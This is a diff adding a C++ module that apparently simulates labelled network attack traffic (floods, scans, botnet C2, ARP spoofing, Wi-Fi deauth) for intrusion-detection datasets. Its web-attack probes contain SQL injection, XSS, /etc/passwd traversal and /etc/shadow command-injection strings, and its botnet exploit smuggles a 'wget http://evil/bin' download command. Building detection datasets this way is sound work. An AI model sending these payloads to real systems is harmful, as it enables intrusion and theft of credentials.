@@ -1,0 +1,555 @@
+#include "trace/attacks.h"
+
+#include <cmath>
+
+namespace lumen::trace {
+
+using namespace lumen::netio;
+
+void attack_http_flood(Sim& sim, double t0, double duration, uint32_t attacker,
+                       uint32_t victim, double rate, AttackType tag) {
+  double t = t0;
+  Rng& rng = sim.rng();
+  while (t < t0 + duration) {
+    Sim::TcpSessionSpec s;
+    s.client = attacker;
+    s.server = victim;
+    s.dport = 80;
+    s.data_pkts = 1 + static_cast<int>(rng.below(2));
+    s.payload_mu = 5.2;
+    s.payload_sigma = 0.3;
+    s.iat_mu = -7.0;  // machine-gun segments
+    s.iat_sigma = 0.4;
+    s.resp_ratio = 0.3;  // server strains to answer
+    s.app = AppProto::kHttp;
+    s.complete = rng.bernoulli(0.6);
+    s.label = 1;
+    s.attack = tag;
+    sim.tcp_session(t, s);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_slowloris(Sim& sim, double t0, double duration, uint32_t attacker,
+                      uint32_t victim, int conns) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker);
+  const MacAddr vmac = Sim::mac_for(victim);
+  for (int c = 0; c < conns; ++c) {
+    const uint16_t sport = sim.ephemeral_port();
+    double t = t0 + rng.uniform(0.0, duration * 0.2);
+    uint32_t seq = static_cast<uint32_t>(rng.next());
+    // Handshake, then dribble tiny header fragments, never complete.
+    sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 80,
+                          TcpOpts{kSyn, seq, 0, 4096}, {}),
+             1, AttackType::kDosSlowloris);
+    t += 0.01;
+    sim.emit(t, build_tcp(vmac, amac, victim, attacker, 80, sport,
+                          TcpOpts{static_cast<uint8_t>(kSyn | kAck), 1000, seq + 1, 16384}, {}),
+             1, AttackType::kDosSlowloris);
+    t += 0.01;
+    seq += 1;
+    while (t < t0 + duration) {
+      const std::string frag = "X-a: " + std::to_string(rng.below(9999)) + "\r\n";
+      sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 80,
+                            TcpOpts{static_cast<uint8_t>(kPsh | kAck), seq, 1001, 4096},
+                            Bytes(frag.begin(), frag.end())),
+               1, AttackType::kDosSlowloris);
+      seq += static_cast<uint32_t>(frag.size());
+      t += rng.uniform(8.0, 15.0);
+    }
+  }
+}
+
+void attack_brute_force(Sim& sim, double t0, double duration,
+                        uint32_t attacker, uint32_t victim, uint16_t port,
+                        double rate) {
+  double t = t0;
+  Rng& rng = sim.rng();
+  while (t < t0 + duration) {
+    Sim::TcpSessionSpec s;
+    s.client = attacker;
+    s.server = victim;
+    s.dport = port;
+    s.data_pkts = 2;  // banner + one credential attempt
+    s.payload_mu = 3.2;
+    s.payload_sigma = 0.2;
+    s.iat_mu = -4.5;
+    s.resp_ratio = 0.8;
+    s.app = port == 21 ? AppProto::kFtp : AppProto::kSsh;
+    s.complete = true;
+    s.rejected = rng.bernoulli(0.1);  // occasional ban
+    s.label = 1;
+    s.attack = AttackType::kBruteForce;
+    sim.tcp_session(t, s);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_heartbleed(Sim& sim, double t0, double duration, uint32_t attacker,
+                       uint32_t victim, int probes) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker);
+  const MacAddr vmac = Sim::mac_for(victim);
+  double t = t0;
+  const uint16_t sport = sim.ephemeral_port();
+  uint32_t seq = static_cast<uint32_t>(rng.next());
+  for (int i = 0; i < probes && t < t0 + duration; ++i) {
+    // Tiny heartbeat request...
+    Bytes req = payload_tls_appdata(8, 0x01);
+    req[0] = 0x18;  // heartbeat content type
+    sim.emit(t, build_tcp(amac, vmac, attacker, victim, sport, 443,
+                          TcpOpts{static_cast<uint8_t>(kPsh | kAck), seq, 77, 8192}, req),
+             1, AttackType::kHeartbleed);
+    seq += static_cast<uint32_t>(req.size());
+    t += rng.uniform(0.05, 0.2);
+    // ...answered with a bleed of server memory.
+    Bytes resp = payload_tls_appdata(1200 + rng.below(200), 0x41);
+    resp[0] = 0x18;
+    sim.emit(t, build_tcp(vmac, amac, victim, attacker, 443, sport,
+                          TcpOpts{static_cast<uint8_t>(kPsh | kAck), 77, seq, 16384}, resp),
+             1, AttackType::kHeartbleed);
+    t += rng.uniform(0.2, 1.0);
+  }
+}
+
+void attack_web(Sim& sim, double t0, double duration, uint32_t attacker,
+                uint32_t victim, double rate) {
+  double t = t0;
+  Rng& rng = sim.rng();
+  static const char* kProbes[] = {
+      "/login.php?user=admin'--&pass=x",
+      "/search?q=<script>alert(1)</script>",
+      "/index.php?page=../../../../etc/passwd",
+      "/cgi-bin/test.cgi?cmd=;cat%20/etc/shadow",
+  };
+  while (t < t0 + duration) {
+    const MacAddr amac = Sim::mac_for(attacker);
+    const MacAddr vmac = Sim::mac_for(victim);
+    const uint16_t sport = sim.ephemeral_port();
+    const std::string uri = std::string(kProbes[rng.below(4)]) + "&r=" +
+                            std::to_string(rng.below(100000));
+    Sim::TcpSessionSpec s;
+    s.client = attacker;
+    s.server = victim;
+    s.sport = sport;
+    s.dport = 80;
+    s.data_pkts = 0;
+    s.label = 1;
+    s.attack = AttackType::kWebAttack;
+    const double te = sim.tcp_session(t, s);
+    Bytes req = payload_http_request("GET", uri, "victim.local");
+    sim.emit(te + 0.01,
+             build_tcp(amac, vmac, attacker, victim, sport, 80,
+                       TcpOpts{static_cast<uint8_t>(kPsh | kAck),
+                               static_cast<uint32_t>(rng.next()), 1, 8192},
+                       req),
+             1, AttackType::kWebAttack);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_infiltration(Sim& sim, double t0, double duration,
+                         uint32_t inside_host, const BenignStyle& style,
+                         int lan_hosts) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  while (t < t0 + duration) {
+    // Sweep a LAN neighbour on a service port.
+    const uint32_t target = sim.lan_ip(style, static_cast<int>(rng.below(lan_hosts)));
+    if (target == inside_host) {
+      t += 0.05;
+      continue;
+    }
+    Sim::TcpSessionSpec s;
+    s.client = inside_host;
+    s.server = target;
+    s.dport = static_cast<uint16_t>(rng.bernoulli(0.5) ? 445 : 139);
+    s.data_pkts = 0;
+    s.silent_server = rng.bernoulli(0.5);
+    s.rejected = !s.silent_server;
+    s.label = 1;
+    s.attack = AttackType::kInfiltration;
+    sim.tcp_session(t, s);
+    t += rng.exponential(4.0);
+  }
+}
+
+void attack_syn_flood(Sim& sim, double t0, double duration, uint32_t victim,
+                      uint16_t port, double rate, AttackType tag) {
+  Rng& rng = sim.rng();
+  const MacAddr vmac = Sim::mac_for(victim);
+  double t = t0;
+  while (t < t0 + duration) {
+    // Spoofed source: random address, random port, TTL far from local hosts.
+    const uint32_t src = static_cast<uint32_t>(rng.next());
+    const MacAddr smac = Sim::mac_for(src);
+    Ipv4Opts ip;
+    ip.ttl = static_cast<uint8_t>(30 + rng.below(40));
+    sim.emit(t,
+             build_tcp(smac, vmac, src, victim, sim.ephemeral_port(), port,
+                       TcpOpts{kSyn, static_cast<uint32_t>(rng.next()), 0,
+                               static_cast<uint16_t>(1024 + rng.below(4096))},
+                       {}, ip),
+             1, tag);
+    if (rng.bernoulli(0.2)) {  // victim manages an occasional RST
+      sim.emit(t + 0.002,
+               build_tcp(vmac, smac, victim, src, port, 1024,
+                         TcpOpts{static_cast<uint8_t>(kRst | kAck), 0, 0, 0}, {}),
+               1, tag);
+    }
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_udp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
+                      uint32_t victim, double rate, AttackType tag) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  while (t < t0 + duration) {
+    Bytes pay(64 + rng.below(900));
+    for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
+    sim.udp_exchange(t, attacker, victim, sim.ephemeral_port(),
+                     static_cast<uint16_t>(1024 + rng.below(60000)), pay, 0, 1,
+                     tag);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_reflection(Sim& sim, double t0, double duration, uint32_t victim,
+                       int reflectors, double rate) {
+  Rng& rng = sim.rng();
+  std::vector<uint32_t> refl;
+  for (int i = 0; i < reflectors; ++i) refl.push_back(sim.wan_ip());
+  double t = t0;
+  while (t < t0 + duration) {
+    const uint32_t r = refl[rng.below(refl.size())];
+    const bool dns = rng.bernoulli(0.5);
+    const uint16_t port = dns ? 53 : 123;
+    // Victim-spoofed request...
+    Bytes req = dns ? payload_dns_query(static_cast<uint16_t>(rng.below(65536)),
+                                        "any.example.com")
+                    : payload_ntp_request();
+    sim.emit(t, build_udp(Sim::mac_for(victim), Sim::mac_for(r), victim, r,
+                          sim.ephemeral_port(), port, req),
+             1, AttackType::kDdosReflection);
+    // ...and the amplified reply hammering the victim.
+    Bytes resp(dns ? 512 + rng.below(2000) : 468);
+    for (auto& b : resp) b = static_cast<uint8_t>(rng.below(256));
+    sim.emit(t + 0.01, build_udp(Sim::mac_for(r), Sim::mac_for(victim), r,
+                                 victim, port, sim.ephemeral_port(), resp),
+             1, AttackType::kDdosReflection);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_port_scan(Sim& sim, double t0, double duration, uint32_t attacker,
+                      uint32_t victim, int ports) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  const double step = duration / static_cast<double>(ports);
+  for (int p = 0; p < ports && t < t0 + duration; ++p) {
+    Sim::TcpSessionSpec s;
+    s.client = attacker;
+    s.server = victim;
+    s.sport = sim.ephemeral_port();
+    s.dport = static_cast<uint16_t>(1 + rng.below(10000));
+    s.data_pkts = 0;
+    s.rejected = rng.bernoulli(0.9);  // most ports closed
+    s.silent_server = !s.rejected && rng.bernoulli(0.5);
+    s.complete = false;
+    s.label = 1;
+    s.attack = AttackType::kPortScan;
+    sim.tcp_session(t, s);
+    t += rng.exponential(1.0 / step);
+  }
+}
+
+void attack_os_scan(Sim& sim, double t0, double duration, uint32_t attacker,
+                    uint32_t victim) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker);
+  const MacAddr vmac = Sim::mac_for(victim);
+  double t = t0;
+  static const uint8_t kWeirdFlags[] = {
+      0x00, kFin, static_cast<uint8_t>(kFin | kPsh | kUrg), kSyn,
+      static_cast<uint8_t>(kSyn | kFin)};
+  while (t < t0 + duration) {
+    if (rng.bernoulli(0.3)) {
+      sim.emit(t, build_icmp(amac, vmac, attacker, victim, 8, 0, Bytes(16, 0)),
+               1, AttackType::kOsScan);
+      sim.emit(t + 0.01,
+               build_icmp(vmac, amac, victim, attacker, 0, 0, Bytes(16, 0)), 1,
+               AttackType::kOsScan);
+    } else {
+      sim.emit(t,
+               build_tcp(amac, vmac, attacker, victim, sim.ephemeral_port(),
+                         static_cast<uint16_t>(1 + rng.below(1024)),
+                         TcpOpts{kWeirdFlags[rng.below(5)],
+                                 static_cast<uint32_t>(rng.next()), 0, 1024},
+                         {}),
+               1, AttackType::kOsScan);
+    }
+    t += rng.exponential(8.0);
+  }
+}
+
+void attack_mirai_scan(Sim& sim, double t0, double duration,
+                       const std::vector<uint32_t>& bots, double rate) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  while (t < t0 + duration) {
+    const uint32_t bot = bots[rng.below(bots.size())];
+    Sim::TcpSessionSpec s;
+    s.client = bot;
+    s.server = sim.wan_ip();
+    s.dport = rng.bernoulli(0.8) ? 23 : 2323;
+    s.data_pkts = 0;
+    s.silent_server = rng.bernoulli(0.7);
+    s.rejected = !s.silent_server && rng.bernoulli(0.8);
+    s.complete = false;
+    s.label = 1;
+    s.attack = AttackType::kMiraiScan;
+    sim.tcp_session(t, s);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_mirai_c2(Sim& sim, double t0, double duration,
+                     const std::vector<uint32_t>& bots, uint32_t c2) {
+  Rng& rng = sim.rng();
+  for (uint32_t bot : bots) {
+    double t = t0 + rng.uniform(0.0, 10.0);
+    while (t < t0 + duration) {
+      Sim::TcpSessionSpec s;
+      s.client = bot;
+      s.server = c2;
+      s.dport = 48101;
+      s.data_pkts = 1;
+      s.payload_mu = 2.0;
+      s.payload_sigma = 0.2;
+      s.app = AppProto::kNone;
+      s.label = 1;
+      s.attack = AttackType::kMiraiC2;
+      sim.tcp_session(t, s);
+      t += rng.uniform(20.0, 40.0);
+    }
+  }
+}
+
+void attack_mirai_flood(Sim& sim, double t0, double duration,
+                        const std::vector<uint32_t>& bots, uint32_t victim,
+                        double rate) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  while (t < t0 + duration) {
+    const uint32_t bot = bots[rng.below(bots.size())];
+    if (rng.bernoulli(0.5)) {
+      const MacAddr bmac = Sim::mac_for(bot);
+      const MacAddr vmac = Sim::mac_for(victim);
+      sim.emit(t,
+               build_tcp(bmac, vmac, bot, victim, sim.ephemeral_port(), 80,
+                         TcpOpts{kSyn, static_cast<uint32_t>(rng.next()), 0, 512},
+                         {}),
+               1, AttackType::kMiraiFlood);
+    } else {
+      Bytes pay(128 + rng.below(512));
+      for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
+      sim.udp_exchange(t, bot, victim, sim.ephemeral_port(),
+                       static_cast<uint16_t>(1024 + rng.below(60000)), pay, 0,
+                       1, AttackType::kMiraiFlood);
+    }
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_torii_c2(Sim& sim, double t0, double duration,
+                     const std::vector<uint32_t>& bots, uint32_t c2,
+                     double period) {
+  Rng& rng = sim.rng();
+  for (uint32_t bot : bots) {
+    double t = t0 + rng.uniform(0.0, period);
+    while (t < t0 + duration) {
+      // Deliberately benign-looking: port 443, modest sizes, human-scale
+      // timing with jitter. Only subtle regularity gives it away.
+      Sim::TcpSessionSpec s;
+      s.client = bot;
+      s.server = c2;
+      s.dport = 443;
+      s.data_pkts = 1 + static_cast<int>(rng.below(2));
+      s.payload_mu = 4.6;
+      s.payload_sigma = 0.15;  // tighter than real browsing
+      s.iat_mu = -3.5;
+      s.resp_ratio = 1.1;
+      s.app = AppProto::kHttps;
+      s.label = 1;
+      s.attack = AttackType::kToriiC2;
+      sim.tcp_session(t, s);
+      t += period * rng.uniform(0.9, 1.1);
+    }
+  }
+}
+
+void attack_botnet_exploit(Sim& sim, double t0, double duration,
+                           uint32_t attacker, uint32_t victim) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker);
+  const MacAddr vmac = Sim::mac_for(victim);
+  double t = t0;
+  while (t < t0 + duration) {
+    // Exploit POST with an oversized body...
+    const uint16_t sport = sim.ephemeral_port();
+    Sim::TcpSessionSpec s;
+    s.client = attacker;
+    s.server = victim;
+    s.sport = sport;
+    s.dport = rng.bernoulli(0.5) ? 80 : 8080;
+    s.data_pkts = 0;
+    s.label = 1;
+    s.attack = AttackType::kBotnetExploit;
+    double te = sim.tcp_session(t, s);
+    Bytes req = payload_http_request(
+        "POST", "/tmUnblock.cgi?cmd=wget%20http://evil/bin", "victim");
+    req.insert(req.end(), 600 + rng.below(400), 0x90);
+    sim.emit(te + 0.01,
+             build_tcp(amac, vmac, attacker, victim, sport, s.dport,
+                       TcpOpts{static_cast<uint8_t>(kPsh | kAck),
+                               static_cast<uint32_t>(rng.next()), 1, 8192},
+                       req),
+             1, AttackType::kBotnetExploit);
+    // ...followed by the stage-2 download from the loader.
+    for (int k = 0; k < 6; ++k) {
+      te += rng.uniform(0.02, 0.08);
+      Bytes chunk(1200);
+      for (auto& b : chunk) b = static_cast<uint8_t>(rng.below(256));
+      sim.emit(te,
+               build_tcp(amac, vmac, attacker, victim, sport, s.dport,
+                         TcpOpts{static_cast<uint8_t>(kPsh | kAck),
+                                 static_cast<uint32_t>(rng.next()), 1, 8192},
+                         chunk),
+               1, AttackType::kBotnetExploit);
+    }
+    t += rng.exponential(0.3);
+  }
+}
+
+void attack_mitm_arp(Sim& sim, double t0, double duration,
+                     uint32_t attacker_ip, uint32_t gateway_ip,
+                     const std::vector<uint32_t>& victims, double rate) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker_ip);
+  double t = t0;
+  while (t < t0 + duration) {
+    const uint32_t victim = victims[rng.below(victims.size())];
+    // Gratuitous reply claiming the gateway's IP lives at the attacker MAC.
+    sim.emit(t, build_arp(amac, Sim::mac_for(victim), 2, amac, gateway_ip,
+                          Sim::mac_for(victim), victim),
+             1, AttackType::kMitmArp);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_ssdp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
+                       uint32_t victim, double rate) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  while (t < t0 + duration) {
+    sim.udp_exchange(t, attacker, victim, sim.ephemeral_port(), 1900,
+                     payload_ssdp_msearch(), 320 + rng.below(200), 1,
+                     AttackType::kSsdpFlood);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_fuzzing(Sim& sim, double t0, double duration, uint32_t attacker,
+                    uint32_t victim, double rate) {
+  Rng& rng = sim.rng();
+  const MacAddr amac = Sim::mac_for(attacker);
+  const MacAddr vmac = Sim::mac_for(victim);
+  double t = t0;
+  while (t < t0 + duration) {
+    Bytes pay(rng.below(256));
+    for (auto& b : pay) b = static_cast<uint8_t>(rng.below(256));
+    const uint8_t flags = static_cast<uint8_t>(rng.below(64));
+    sim.emit(t,
+             build_tcp(amac, vmac, attacker, victim, sim.ephemeral_port(),
+                       static_cast<uint16_t>(rng.below(65536)),
+                       TcpOpts{flags, static_cast<uint32_t>(rng.next()),
+                               static_cast<uint32_t>(rng.next()),
+                               static_cast<uint16_t>(rng.below(65536))},
+                       pay),
+             1, AttackType::kFuzzing);
+    t += rng.exponential(rate);
+  }
+}
+
+// ----------------------------------------------------------------- 802.11
+
+void wifi_benign(Sim& sim, double t0, double duration, const MacAddr& ap,
+                 int stations) {
+  Rng& rng = sim.rng();
+  // AP beacons every ~102 ms.
+  const Bytes ssid_body = {0x00, 0x07, 'h', 'o', 'm', 'e', 'n', 'e', 't'};
+  for (double t = t0; t < t0 + duration; t += 0.1024) {
+    sim.emit(t, build_dot11_mgmt(8, ap,
+                                 MacAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
+                                 ap, ssid_body),
+             0, AttackType::kNone);
+  }
+  // Stations exchange encrypted data frames with the AP.
+  for (int s = 0; s < stations; ++s) {
+    MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00, static_cast<uint8_t>(16 + s)};
+    double t = t0 + rng.uniform(0.0, 1.0);
+    while (t < t0 + duration) {
+      const size_t up = 40 + rng.below(200);
+      sim.emit(t, build_dot11_data(sta, ap, ap, up,
+                                   static_cast<uint8_t>(rng.below(256))),
+               0, AttackType::kNone);
+      t += rng.lognormal(-2.5, 0.8);
+      const size_t down = 60 + rng.below(800);
+      sim.emit(t, build_dot11_data(ap, sta, ap, down,
+                                   static_cast<uint8_t>(rng.below(256))),
+               0, AttackType::kNone);
+      t += rng.exponential(0.8);
+    }
+  }
+}
+
+void attack_dot11_deauth(Sim& sim, double t0, double duration,
+                         const MacAddr& ap, int stations, double rate) {
+  Rng& rng = sim.rng();
+  double t = t0;
+  const Bytes reason = {0x00, 0x07};  // class-3 frame from nonassociated STA
+  while (t < t0 + duration) {
+    MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00,
+                static_cast<uint8_t>(16 + rng.below(stations))};
+    // Forged deauth "from" the AP to the station.
+    sim.emit(t, build_dot11_mgmt(12, ap, sta, ap, reason), 1,
+             AttackType::kDot11Deauth);
+    t += rng.exponential(rate);
+  }
+}
+
+void attack_dot11_eviltwin(Sim& sim, double t0, double duration,
+                           const MacAddr& rogue_ap, double rate) {
+  Rng& rng = sim.rng();
+  const Bytes ssid_body = {0x00, 0x07, 'h', 'o', 'm', 'e', 'n', 'e', 't'};
+  double t = t0;
+  while (t < t0 + duration) {
+    sim.emit(t, build_dot11_mgmt(8, rogue_ap,
+                                 MacAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
+                                 rogue_ap, ssid_body),
+             1, AttackType::kDot11EvilTwin);
+    // Probe responses to lure stations.
+    if (rng.bernoulli(0.4)) {
+      MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00,
+                  static_cast<uint8_t>(16 + rng.below(6))};
+      sim.emit(t + 0.002, build_dot11_mgmt(5, rogue_ap, sta, rogue_ap,
+                                           ssid_body),
+               1, AttackType::kDot11EvilTwin);
+    }
+    t += rng.exponential(rate);
+  }
+}
+
+}  // namespace lumen::trace
